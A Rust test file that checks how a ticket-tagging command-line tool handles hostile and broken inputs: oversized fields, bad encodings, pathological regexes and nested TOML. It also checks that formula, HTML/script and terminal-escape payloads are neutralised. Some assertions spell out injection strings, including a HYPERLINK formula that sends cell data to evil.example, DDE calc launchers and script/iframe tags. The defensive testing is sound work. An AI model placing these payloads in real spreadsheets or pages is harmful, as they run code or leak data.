//! Hostile and broken inputs (`tests/hostile/`, README there): each one run through the
//! binary, with its outcome asserted: counts, cells, messages with `file:line:col`, exit
//! codes. Large inputs (a 50 MB field, 10,000 columns, 100,000 rules...) are generated in a
//! temporary directory, not committed.
//!
//! The invariant checked wherever tickets are read: `read = tagged by rule + tagged by index
//! + untagged + rejected`, and every row read is in the output or in the rejects file.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Output, Stdio};

use super::tagger;

/// A committed hostile input.
fn input(name: &str) -> String {
    format!("tests/hostile/{name}")
}

/// Exit code, stdout and stderr (both as lossy text) of a run.
fn run(args: &[&str]) -> (i32, String, String) {
    let out = tagger(args);
    outcome(out)
}

fn outcome(out: Output) -> (i32, String, String) {
    (
        out.status.code().expect("exited, not killed"),
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The numbers of `read N = tagged by rule A + tagged by index B + untagged C + rejected D`,
/// checked to add up.
fn counts(stderr: &str) -> [u64; 5] {
    let line = stderr
        .lines()
        .find(|l| l.starts_with("read "))
        .unwrap_or_else(|| panic!("no summary in {stderr}"));
    let n: Vec<u64> = line
        .split(|c: char| !c.is_ascii_digit())
        .filter(|s| !s.is_empty())
        .take(5)
        .map(|s| s.parse().unwrap())
        .collect();
    assert_eq!(
        n[0],
        n[1] + n[2] + n[3] + n[4],
        "counts do not add up: {line}"
    );
    [n[0], n[1], n[2], n[3], n[4]]
}

/// Header and rows of CSV text.
fn parse(text: &str) -> (Vec<String>, Vec<Vec<String>>) {
    let mut reader = csv::ReaderBuilder::new()
        .flexible(true)
        .from_reader(text.as_bytes());
    let header = reader.headers().unwrap().iter().map(String::from).collect();
    let rows = reader
        .records()
        .map(|r| r.unwrap().iter().map(String::from).collect())
        .collect();
    (header, rows)
}

/// Characters a terminal would obey: C0 controls but newline, DEL, C1, bidi overrides.
fn terminal_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|&c| {
            (c.is_control() && c != '\n')
                || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
        })
        .collect()
}

/// What [`tag_with_rejects`] returns: exit code, output header, output rows, reject rows,
/// stderr.
type Tagged = (i32, Vec<String>, Vec<Vec<String>>, Vec<Vec<String>>, String);

/// Tags `file` with `extra` arguments (no index fallback, for exact counts), writing the
/// rejects beside.
fn tag_with_rejects(file: &str, extra: &[&str]) -> Tagged {
    let dir = tempfile::tempdir().unwrap();
    let rejects = dir.path().join("rejects.csv");
    let mut args = vec![
        "tag",
        file,
        "--no-fallback",
        "--rejects",
        rejects.to_str().unwrap(),
    ];
    args.extend_from_slice(extra);
    let (code, stdout, stderr) = run(&args);
    let (header, rows) = parse(&stdout);
    let reject_rows = std::fs::read_to_string(&rejects)
        .map(|t| parse(&t).1)
        .unwrap_or_default();
    (code, header, rows, reject_rows, stderr)
}

// --- Files that are not exports -----------------------------------------------------------

#[test]
fn an_empty_file_is_refused_by_every_command_with_exit_1() {
    for cmd in ["tag", "report", "inspect", "coverage"] {
        let (code, stdout, stderr) = run(&[cmd, &input("empty.csv")]);
        assert_eq!(code, 1, "{cmd}: {stderr}");
        assert!(stdout.is_empty() || cmd == "tag", "{cmd}: {stdout}");
        assert!(
            stderr.contains("tests/hostile/empty.csv: the file is empty: no header line"),
            "{cmd}: {stderr}"
        );
    }
    // The same from stdin.
    let mut child = crate::binary()
        .args(["tag", "-"])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdin.take());
    let (code, _, stderr) = outcome(child.wait_with_output().unwrap());
    assert_eq!(code, 1);
    assert!(stderr.contains("<stdin>: the file is empty"), "{stderr}");
}

#[test]
fn a_header_alone_gives_a_header_alone_and_zero_counts() {
    let (code, stdout, stderr) = run(&["tag", &input("header-only.csv"), "--no-fallback"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(
        stdout,
        "id,title,description,services,primary_service,service_names,tag_source,matched_rules\n"
    );
    assert_eq!(counts(&stderr), [0, 0, 0, 0, 0]);
    let (code, stdout, _) = run(&["report", &input("header-only.csv"), "--format", "json"]);
    assert_eq!(code, 0);
    let v: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(v["figures"]["total"]["tickets"], 0.0, "{stdout:.400}");
}

#[test]
fn binary_junk_and_workbooks_are_refused_as_not_text() {
    let (code, stdout, stderr) = run(&["tag", &input("binary-junk.bin")]);
    assert_eq!(code, 1, "{stderr}");
    assert!(stdout.is_empty());
    assert!(
        stderr.contains("tests/hostile/binary-junk.bin: not a text export: binary data"),
        "{stderr}"
    );
    assert!(
        stderr.contains("hint: export the tickets as CSV"),
        "{stderr}"
    );
    let dir = tempfile::tempdir().unwrap();
    for (name, bytes, what) in [
        (
            "tickets.xlsx",
            &b"PK\x03\x04\x14\x00\x06\x00\x08\x00"[..],
            ".xlsx",
        ),
        (
            "tickets.xls",
            &b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00"[..],
            ".xls",
        ),
    ] {
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        let (code, _, stderr) = run(&["inspect", path.to_str().unwrap()]);
        assert_eq!(code, 1);
        assert!(stderr.contains(what), "{stderr}");
    }
    // As a rules file or a catalog: the file is named, the cause said once.
    let (code, _, stderr) = run(&["rules", "check", &input("binary-junk.bin")]);
    assert_eq!(code, 1);
    assert_eq!(
        stderr.matches("did not contain valid UTF-8").count(),
        1,
        "{stderr}"
    );
    assert!(stderr.contains("tests/hostile/binary-junk.bin"), "{stderr}");
}

#[test]
fn nul_bytes_in_cells_pass_through_and_the_text_around_them_is_tagged() {
    let (code, header, rows, rejects, stderr) = tag_with_rejects(&input("nul-bytes.csv"), &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [4, 2, 0, 2, 0]);
    assert!(rejects.is_empty());
    assert_eq!(rows.len(), 4);
    assert_eq!(
        rows[0][1], "Phish\0ing mail reported by a user",
        "kept as read"
    );
    let source = header.iter().position(|h| h == "primary_service").unwrap();
    assert_eq!(rows[1][source], "6.3", "malware sample: {:?}", rows[1]);
    // On a terminal, the NUL does not show.
    let (code, stdout, _) = run(&["inspect", &input("nul-bytes.csv")]);
    assert_eq!(code, 0);
    assert!(terminal_controls(&stdout).is_empty(), "{stdout}");
    assert!(
        stdout.contains("Phishing mail reported by a user"),
        "{stdout}"
    );
}

// --- Sizes -----------------------------------------------------------------------------------

#[test]
fn a_50_mb_field_is_read_whole_and_over_a_lower_limit_its_row_is_rejected_with_its_place() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("big.csv");
    let mut f = std::io::BufWriter::new(std::fs::File::create(&path).unwrap());
    f.write_all(b"id,title,description\n1,log paste,\"")
        .unwrap();
    let chunk = "lorem ipsum dolor sit amet ".repeat(40);
    let mut size = 0;
    while size < 50 << 20 {
        f.write_all(chunk.as_bytes()).unwrap();
        size += chunk.len();
    }
    f.write_all(b"and then a phishing mail\"\n2,small,malware sample\n")
        .unwrap();
    drop(f);
    let file = path.to_str().unwrap();
    let out = dir.path().join("tagged.csv");
    let (code, _, stderr) = run(&["tag", file, "--no-fallback", "-o", out.to_str().unwrap()]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [2, 2, 0, 0, 0]);
    let (_, rows) = parse(&std::fs::read_to_string(&out).unwrap());
    assert_eq!(rows[0][2].len(), size + "and then a phishing mail".len());
    // "phishing mail" is a report to take in (6.1): found although it ends a 50 MB field.
    assert_eq!(rows[0][4], "6.1", "the words at the very end are found");

    // Under a 10 MiB limit: the row is rejected, named, counted; the next one is tagged.
    let (code, _, rows, rejects, stderr) = tag_with_rejects(file, &["--max-field-size", "10MiB"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [2, 1, 0, 0, 1]);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0][0], "2");
    assert!(
        stderr.contains(&format!(
            "{file}:2:13: error: row rejected: field 3 (`description`) is more than"
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains("over the 10 MiB limit (--max-field-size raises it)"),
        "{stderr}"
    );
    assert_eq!(rejects.len(), 1);
    assert_eq!((rejects[0][1].as_str(), rejects[0][3].len()), ("2", 1024));
    assert!(rejects[0][3].starts_with("1,log paste,\"lorem ipsum"));
    // Under --strict, the same is fatal.
    let (code, _, stderr) = run(&["tag", file, "--strict", "--max-field-size", "10MiB"]);
    assert_eq!(code, 1);
    assert!(
        stderr.contains(&format!("{file}:2:13: row rejected")),
        "{stderr}"
    );
    // A header over the limit stops at once.
    let (code, _, stderr) = run(&["tag", file, "--max-field-size", "8"]);
    assert_eq!(code, 1);
    assert!(
        stderr.contains(&format!(
            "{file}:1:10: the header's field 3 is over the 8 bytes limit"
        )),
        "{stderr}"
    );
    let (code, _, stderr) = run(&["tag", file, "--max-field-size", "lots"]);
    assert_eq!(code, 2, "a bad size is a usage error: {stderr}");
}

#[test]
fn ten_thousand_columns_pass_through_and_are_mapped_by_option() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("wide.csv");
    let header: Vec<String> = (0..10_000).map(|i| format!("c{i}")).collect();
    let row: Vec<String> = (0..10_000)
        .map(|i| match i {
            0 => "W-1".to_string(),
            5 => "phishing mail".to_string(),
            i => format!("v{i}"),
        })
        .collect();
    std::fs::write(&path, format!("{}\n{}\n", header.join(","), row.join(","))).unwrap();
    let file = path.to_str().unwrap();
    let (code, header, rows, _, stderr) =
        tag_with_rejects(file, &["--id-col", "c0", "--text-cols", "c5"]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [1, 1, 0, 0, 0]);
    assert_eq!(header.len(), 10_005);
    assert_eq!(rows[0][9_999], "v9999");
    assert_eq!(rows[0][10_001], "6.1");
    // Without a mapping no column is known: each row is rejected, with why, and since no
    // ticket at all could be read, the command fails (the rejects are still written).
    let (code, _, rows, rejects, stderr) = tag_with_rejects(file, &[]);
    assert_eq!(code, 1);
    assert!(stderr.contains("no ticket could be read"), "{stderr}");
    assert_eq!(counts(&stderr), [1, 0, 0, 0, 1]);
    assert!(rows.is_empty());
    assert_eq!(rejects[0][2], "no id and no text in this row");
    assert!(stderr.contains("no column mapped"), "{stderr}");
}

#[test]
fn extremely_long_lines_are_tagged_and_explained_without_flooding_the_terminal() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("long.csv");
    let text = "phishing mail ".repeat(1_000_000); // 14 MB, a million hits
    std::fs::write(
        &path,
        format!("id,title,description\nL-1,spam mails,{text}\n"),
    )
    .unwrap();
    let file = path.to_str().unwrap();
    let (code, _, rows, _, stderr) = tag_with_rejects(file, &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [1, 1, 0, 0, 0]);
    assert_eq!(rows[0][4], "6.1");
    let (code, stdout, _) = run(&["explain", file, "--id", "L-1", "--no-fallback"]);
    assert_eq!(code, 0);
    assert!(
        stdout.lines().count() < 200,
        "{} lines",
        stdout.lines().count()
    );
    assert!(
        // The rule's two words (`phishing`, `phish*`) hit a million times each: 20 shown.
        stdout.contains("      ... and 1999980 more (--format json lists them all)"),
        "{stdout:.2000}"
    );
}

// --- Quoting, encodings, line ends, headers, blank rows ---------------------------------------

#[test]
fn a_quote_left_open_in_the_middle_costs_only_its_own_line() {
    let (code, _, rows, rejects, stderr) =
        tag_with_rejects(&input("unbalanced-quote-middle.csv"), &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [3, 3, 0, 0, 0]);
    assert!(rejects.is_empty());
    assert!(
        stderr.contains("unbalanced-quote-middle.csv:2:17: warning: a quoted field is never closed properly; this line was read without quoting"),
        "{stderr}"
    );
    let ids: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(ids, ["1", "2", "3"]);
    assert_eq!(
        rows[0][2], "\"user wrote \"\"hello\"\" and",
        "read as written"
    );
}

#[test]
fn a_quote_left_open_at_the_end_keeps_its_row_and_rejects_the_rest_of_the_line() {
    let (code, _, rows, rejects, stderr) =
        tag_with_rejects(&input("unbalanced-quote-end.csv"), &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [3, 2, 0, 0, 1]);
    assert!(
        stderr.contains("unbalanced-quote-end.csv:3:18: warning: a quoted field is never closed"),
        "{stderr}"
    );
    assert_eq!(rows[1][2], "\"analyse it");
    assert_eq!(rejects.len(), 1);
    assert_eq!(
        (rejects[0][1].as_str(), rejects[0][3].as_str()),
        ("4", "still open")
    );
    assert!(rejects[0][2].starts_with("no delimiter in this line"));
}

#[test]
fn invalid_utf8_in_the_middle_of_a_utf8_file_spoils_only_its_own_field() {
    let (code, _, rows, _, stderr) = tag_with_rejects(&input("invalid-utf8-middle.csv"), &[]);
    assert_eq!(code, 0, "{stderr}");
    // Every row is read and none is lost (which tags they get is the rules' business).
    let [read, rule, index, untagged, rejected] = counts(&stderr);
    assert_eq!(
        (read, rejected, rule + index + untagged),
        (4, 0, 4),
        "{stderr}"
    );
    assert!(stderr.contains("generic (UTF-8,"), "{stderr}");
    assert!(
        stderr.contains(
            "invalid-utf8-middle.csv:4:3: warning: bytes that are not UTF-8: read as windows-1252"
        ),
        "{stderr}"
    );
    assert!(
        rows[0][2].contains("Prüfung nötig und Passwort geändert"),
        "{:?}",
        rows[0]
    );
    assert_eq!(rows[2][1], "Bad bytes ÿþ here");
    assert_eq!(rows[2][2], "café crème DDoS attack");
    assert!(rows[3][2].contains("Größe unbekannt; äußerst dringend"));
    let (_, stdout, _) = run(&["inspect", &input("invalid-utf8-middle.csv")]);
    assert!(
        stdout.contains("1 invalid sequence(s)") || stdout.contains("invalid sequence"),
        "{stdout}"
    );
}

#[test]
fn mixed_line_endings_keep_every_row_and_the_right_line_numbers() {
    let (code, _, rows, _, stderr) = tag_with_rejects(&input("mixed-line-endings.csv"), &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [4, 4, 0, 0, 0]);
    let ids: Vec<&str> = rows.iter().map(|r| r[0].as_str()).collect();
    assert_eq!(ids, ["1", "2", "3", "4"]);
    // Line 3 ends with a lone CR: the rows after it are on lines 4 and 5, as an editor shows.
    assert!(
        stderr.contains("mixed-line-endings.csv:4:32: warning: unreadable date `not-a-date`"),
        "{stderr}"
    );
    assert!(
        stderr.contains("mixed-line-endings.csv:5:35: warning: unreadable date `bad date`"),
        "{stderr}"
    );
}

#[test]
fn duplicate_and_blank_headers_pass_through_in_order() {
    let (code, header, rows, _, stderr) =
        tag_with_rejects(&input("duplicate-blank-headers.csv"), &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [2, 2, 0, 0, 0]);
    assert_eq!(
        &header[..6],
        ["id", "title", "title", "", "description", ""]
    );
    assert_eq!(
        &rows[0][..6],
        [
            "1",
            "Phishing",
            "second title",
            "blank header",
            "user reported phishing mail",
            "tail"
        ]
    );
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("t.jsonl");
    let (code, _, _) = run(&[
        "tag",
        &input("duplicate-blank-headers.csv"),
        "--no-fallback",
        "-o",
        out.to_str().unwrap(),
    ]);
    assert_eq!(code, 0);
    let first: serde_json::Value = serde_json::from_str(
        std::fs::read_to_string(&out)
            .unwrap()
            .lines()
            .next()
            .unwrap(),
    )
    .unwrap();
    assert_eq!(
        first["columns"][2],
        serde_json::json!(["title", "second title"])
    );
    assert_eq!(first["columns"][3], serde_json::json!(["", "blank header"]));
}

#[test]
fn rows_of_blanks_are_rejected_each_with_its_line_and_reason() {
    let (code, _, rows, rejects, stderr) = tag_with_rejects(&input("blank-rows.csv"), &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [6, 2, 0, 0, 4]);
    assert_eq!(rows.len(), 2);
    let got: Vec<(&str, &str)> = rejects
        .iter()
        .map(|r| (r[1].as_str(), r[2].as_str()))
        .collect();
    assert_eq!(
        got,
        [
            ("3", "no id and no text in this row"),
            ("4", "no id and no text in this row"),
            ("5", "no id and no text in this row"),
            (
                "6",
                "no delimiter in this line: not a row of this export (3 columns expected)"
            ),
        ]
    );
}

// --- Payloads in ticket text -------------------------------------------------------------------

#[test]
fn formula_payloads_are_neutralised_in_every_csv_and_markdown_output_unless_raw() {
    let file = input("formulas.csv");
    let (code, header, rows, rejects, stderr) = tag_with_rejects(&file, &[]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [6, 5, 0, 0, 1]);
    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (title, desc, queue, prio) = (
        col("title"),
        col("description"),
        col("queue"),
        col("priority"),
    );
    assert_eq!(
        rows[0][title],
        "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    );
    assert_eq!(rows[0][queue], "'=1+1");
    assert_eq!(rows[0][prio], "'@SUM(A1:A9)");
    assert_eq!(rows[1][title], "'+cmd|' /C calc'!A0");
    assert_eq!(rows[1][prio], "'-2+3");
    assert_eq!(rows[2][queue], "'-queue");
    assert_eq!(rows[2][prio], "-3", "a plain number stays a number");
    assert_eq!(rows[3][queue], "'\tTab queue");
    assert_eq!(rows[3][prio], "'\r=1+2");
    assert_eq!(rows[4][title], "'\t=1+1");
    assert_eq!(rows[4][desc], "'\r=2+2 phishing mail");
    assert_eq!(rows[4][prio], "+1");
    // Every cell of every output is inert: no formula start unless a plain number.
    let inert = |cell: &str| {
        !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.trim().parse::<f64>().is_ok()
    };
    assert!(rows.iter().flatten().all(|c| inert(c)), "{rows:?}");
    // The rejected line is a formula too: the rejects file neutralises it.
    // Line 9: the lone CRs quoted in rows F-4 and F-5 end lines, as in an editor.
    assert_eq!(rejects[0][1], "9");
    assert_eq!(rejects[0][3], "'@SUM(1+1)*cmd|' /C calc'!A0");
    let (_, _, raw_rows, raw_rejects, _) = tag_with_rejects(&file, &["--raw"]);
    assert_eq!(
        raw_rows[0][title],
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
    );
    assert_eq!(raw_rejects[0][3], "@SUM(1+1)*cmd|' /C calc'!A0");

    // report --format csv: ticket values only appear in `by:` headers, every cell inert.
    let (code, stdout, _) = run(&[
        "report",
        &file,
        "--no-fallback",
        "--format",
        "csv",
        "--by",
        "queue",
    ]);
    assert_eq!(code, 0);
    let (head, report_rows) = parse(&stdout);
    assert!(head.contains(&"by:queue==1+1".to_string()), "{head:?}");
    assert!(head
        .iter()
        .chain(report_rows.iter().flatten())
        .all(|c| inert(c)));
    // report --format md: the queue names are neutralised, tab and CR made spaces.
    let (code, md, _) = run(&[
        "report",
        &file,
        "--no-fallback",
        "--format",
        "md",
        "--by",
        "queue",
    ]);
    assert_eq!(code, 0);
    let line = md
        .lines()
        .find(|l| l.contains("'+queue"))
        .expect("the header of the table per queue");
    for cell in [
        "' Tab queue",
        "'+queue",
        "'-queue",
        "'=1+1",
        "'=HYPERLINK(\"http://evil.example\")",
    ] {
        assert!(line.contains(&format!("| {cell} |")), "{cell} in {line}");
    }
    let (_, md_raw, _) = run(&[
        "report",
        &file,
        "--no-fallback",
        "--format",
        "md",
        "--by",
        "queue",
        "--raw",
    ]);
    assert!(md_raw.contains("| =1+1 |"), "{md_raw}");
    // coverage --format csv: rule ids come from files; one shaped like a formula is inert.
    let dir = tempfile::tempdir().unwrap();
    let rules = dir.path().join("r.toml");
    std::fs::write(
        &rules,
        "[[rule]]\nid = \"=HYPERLINK(1)\"\nservice = \"6.2\"\nany = [\"phishing\"]\n",
    )
    .unwrap();
    let (code, stdout, stderr) = run(&[
        "coverage",
        &file,
        "--rules",
        rules.to_str().unwrap(),
        "--no-fallback",
        "--format",
        "csv",
    ]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(stdout.lines().next(), Some("rule,'=HYPERLINK(1)"));
}

#[test]
fn html_and_script_payloads_are_text_in_the_report_pages() {
    let dir = tempfile::tempdir().unwrap();
    let page = dir.path().join("report.html");
    let file = input("html-js.csv");
    let (code, _, stderr) = run(&[
        "report",
        &file,
        "--no-fallback",
        "--by",
        "queue",
        "-o",
        page.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{stderr}");
    let html = std::fs::read_to_string(&page).unwrap();
    assert_eq!(
        html.matches("<script").count(),
        2,
        "only the page's own scripts"
    );
    for payload in [
        "<script>alert",
        "<iframe",
        "<svg onload",
        "<h1>owned",
        "</style><script>",
        "onerror=alert(1)>",
    ] {
        assert!(!html.contains(payload), "{payload} is live in the page");
    }
    assert!(
        html.contains("&lt;script&gt;alert(1)&lt;/script&gt;"),
        "the queue shows as text"
    );
    assert!(html.contains("&lt;iframe src=//evil.example&gt;"));
    let (code, md, _) = run(&[
        "report",
        &file,
        "--no-fallback",
        "--by",
        "queue",
        "--format",
        "md",
    ]);
    assert_eq!(code, 0);
    assert!(!md.contains("<script") && !md.contains("<iframe"), "{md}");
    assert!(md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{md}");
    // In a real browser, when there is one: nothing from the tickets became an element.
    let Some(browser) = super::report::chromium() else {
        return;
    };
    let dom = super::report::run_chromium(&browser, &page, &["--dump-dom".to_string()]);
    let dom = String::from_utf8_lossy(&dom.stdout);
    assert!(
        dom.contains("data-ready=\"true\""),
        "the page script ran: {:.600}",
        dom
    );
    assert!(!dom.contains(" data-errors=\""), "no script error");
    assert_eq!(dom.matches("<script").count(), 2);
    for element in ["<iframe", "<h1>owned", "<img", "<svg onload"] {
        assert!(!dom.contains(element), "{element} in the DOM");
    }
}

#[test]
fn escape_sequences_in_tickets_never_reach_the_terminal() {
    let file = input("ansi-control.csv");
    for args in [
        vec!["inspect", file.as_str()],
        vec!["inspect", file.as_str(), "--format", "json"],
        vec!["explain", file.as_str(), "--id", "A-1", "--no-fallback"],
        vec!["explain", file.as_str(), "--id", "A-3", "--no-fallback"],
        vec!["report", file.as_str(), "--by", "queue", "--no-fallback"],
        vec!["report", file.as_str(), "--by", "priority", "--no-fallback"],
        vec!["coverage", file.as_str(), "--no-fallback"],
        vec!["tag", file.as_str(), "--no-fallback", "-o", "/dev/null"],
        vec!["tag", file.as_str(), "--no-fallback", "--strict"],
    ] {
        let (code, stdout, stderr) = run(&args);
        assert!(
            code == 0 || args.contains(&"--strict"),
            "{args:?}: {stderr}"
        );
        assert_eq!(
            terminal_controls(&stdout),
            [] as [char; 0],
            "{args:?} stdout"
        );
        assert_eq!(
            terminal_controls(&stderr),
            [] as [char; 0],
            "{args:?} stderr: {stderr}"
        );
    }
    // The warning and the --strict error quote the value, made harmless.
    let (code, _, stderr) = run(&["tag", &file, "--no-fallback", "--strict"]);
    assert_eq!(code, 1);
    assert!(
        stderr.contains("ansi-control.csv:4:70: unreadable date `not a date \u{fffd}[31m`"),
        "{stderr}"
    );
    // The tagged CSV is data: the cells pass through as they are.
    let (_, stdout, _) = run(&["tag", &file, "--no-fallback"]);
    assert!(stdout.contains("\u{1b}[31mRED phishing"));
}

// --- Rules files -------------------------------------------------------------------------------

#[test]
fn a_hundred_thousand_rules_are_refused_past_the_limit_and_loaded_under_a_raised_one() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("many.toml");
    let mut text = String::with_capacity(7 << 20);
    for i in 0..100_000 {
        text.push_str(&format!(
            "[[rule]]\nid = \"r{i}\"\nservice = \"6.3\"\nany = [\"word{i}\"]\n\n"
        ));
    }
    std::fs::write(&path, text).unwrap();
    let rules = path.to_str().unwrap();
    let (code, _, stderr) = run(&["tag", &input("formulas.csv"), "--rules", rules]);
    assert_eq!(code, 1);
    assert!(
        stderr.contains(&format!(
            "{rules}:100001:1: error: more than 20000 rules: this one and the rest are left out"
        )),
        "{stderr}"
    );
    assert!(
        stderr.contains("raise the limit with --max-rules"),
        "{stderr}"
    );
    let ticket = dir.path().join("t.csv");
    std::fs::write(&ticket, "id,title,description\n1,x,see word99999 here\n").unwrap();
    let (code, _, rows, _, stderr) = tag_with_rejects(
        ticket.to_str().unwrap(),
        &["--rules", rules, "--max-rules", "100000"],
    );
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(rows[0][7], "r99999", "{:?}", rows[0]);
}

#[test]
fn huge_regexes_are_refused_with_their_place_and_the_option_that_raises_the_limit() {
    let (code, stdout, _) = run(&["rules", "check", &input("huge-repeat-regex.toml")]);
    assert_eq!(code, 1);
    assert!(
        stdout.contains("tests/hostile/huge-repeat-regex.toml:11:10: error: rule hostile.huge-repeat: regex too big"),
        "{stdout}"
    );
    assert!(stdout.contains("--max-regex-size"), "{stdout}");
    let (code, _, stderr) = run(&[
        "tag",
        &input("formulas.csv"),
        "--rules",
        &input("huge-repeat-regex.toml"),
    ]);
    assert_eq!(code, 1);
    assert!(stderr.contains("1 error(s) in the rules"), "{stderr}");

    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("huge.toml");
    let alternatives: Vec<String> = (0..50_000).map(|i| format!("token{i:05}")).collect();
    std::fs::write(
        &path,
        format!(
            "[[rule]]\nid = \"huge\"\nservice = \"6.3\"\nregex = ['({})']\n",
            alternatives.join("|")
        ),
    )
    .unwrap();
    let rules = path.to_str().unwrap();
    let (code, stdout, _) = run(&["rules", "check", rules]);
    assert_eq!(code, 1);
    assert!(
        stdout.contains(&format!("{rules}:4:10: error: rule huge: regex too big")),
        "{stdout}"
    );
    let (code, stdout, _) = run(&["rules", "check", rules, "--max-regex-size", "256MiB"]);
    assert_eq!(code, 0, "{stdout}");
}

#[test]
fn pathological_regexes_run_in_linear_time() {
    let (code, stdout, _) = run(&["rules", "check", &input("pathological-regex.toml")]);
    assert_eq!(code, 0, "{stdout}");
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("aaa.csv");
    let row = |id: &str, a: &str, b: &str| format!("{id},{a},{b}\n");
    std::fs::write(
        &path,
        format!(
            "id,title,description\n{}{}",
            row("1", &"a".repeat(200_000), &"x".repeat(200_000)),
            row(
                "2",
                &"aa".repeat(1000),
                &format!("{}!", "x".repeat(100_000))
            ),
        ),
    )
    .unwrap();
    // A backtracking engine would run for ages here; the hang bound of every test catches it.
    let (code, _, rows, _, stderr) = tag_with_rejects(
        path.to_str().unwrap(),
        &["--rules", &input("pathological-regex.toml")],
    );
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(counts(&stderr), [2, 2, 0, 0, 0]);
    // No `b`, `y`, `c` or `d`: only the word run matches (the title is all word characters).
    assert_eq!(rows[0][7], "hostile.word-run");
    assert_eq!(rows[1][7], "hostile.word-run");
}

/// `text` written to a fresh file in `dir`.
fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

#[test]
fn deeply_nested_toml_is_refused_without_a_stack_overflow() {
    let dir = tempfile::tempdir().unwrap();
    let n = 10_000;
    let arrays = write(
        dir.path(),
        "arrays.toml",
        &format!("x = {}{}\n", "[".repeat(n), "]".repeat(n)),
    );
    let inline = write(
        dir.path(),
        "inline.toml",
        &format!("x = {}1{}\n", "{a = ".repeat(n), "}".repeat(n)),
    );
    let tables = write(
        dir.path(),
        "tables.toml",
        &format!("[{}]\nb = 1\n", vec!["a"; n].join(".")),
    );
    let in_rule = write(
        dir.path(),
        "rule.toml",
        &format!(
            "[[rule]]\nid = \"x\"\nservice = \"6.3\"\nany = {}{}\n",
            "[".repeat(n),
            "]".repeat(n)
        ),
    );
    for (path, at) in [
        (&arrays, ":1:85: "),
        (&inline, ":1:405: "),
        (&tables, ": "),
        (&in_rule, ":4:87: "),
    ] {
        let p = path.to_str().unwrap();
        let (code, stdout, stderr) = run(&["rules", "check", p]);
        assert_eq!(code, 1, "{p}: {stderr}");
        assert!(
            stdout.contains(&format!("{p}{at}error: not a valid rules file:"))
                && stdout.contains("recurs"),
            "{stdout}"
        );
        let (code, _, stderr) = run(&["--catalog", p, "services"]);
        assert_eq!(code, 1);
        assert!(
            stderr.contains(&format!("{p}{at}not a valid catalog:")),
            "{stderr}"
        );
        let (code, _, stderr) = run(&["tag", &input("formulas.csv"), "--profile", p]);
        assert_eq!(code, 1);
        assert!(stderr.contains(p) && stderr.contains("recurs"), "{stderr}");
    }
}

// --- Catalogs ---------------------------------------------------------------------------------

#[test]
fn a_catalog_with_a_cycle_or_a_dangling_parent_is_refused_at_the_parent_field() {
    for (file, expected) in [
        (
            "catalog-cycle.toml",
            ":16:8: service `6.1`: its area `6.1` is not defined",
        ),
        (
            "catalog-function-cycle.toml",
            ":21:11: function `6.1.1`: its service `6.1.2` is not defined",
        ),
        (
            "catalog-dangling-parent.toml",
            ":21:8: service `7.1`: its area `7` is not defined",
        ),
    ] {
        let path = input(file);
        for args in [
            vec!["--catalog", &path, "services"],
            vec!["--catalog", &path, "tag", "tests/hostile/formulas.csv"],
        ] {
            let (code, stdout, stderr) = run(&args);
            assert_eq!(code, 1, "{args:?}");
            assert!(stdout.is_empty());
            assert!(stderr.contains(&format!("{path}{expected}")), "{stderr}");
        }
    }
}
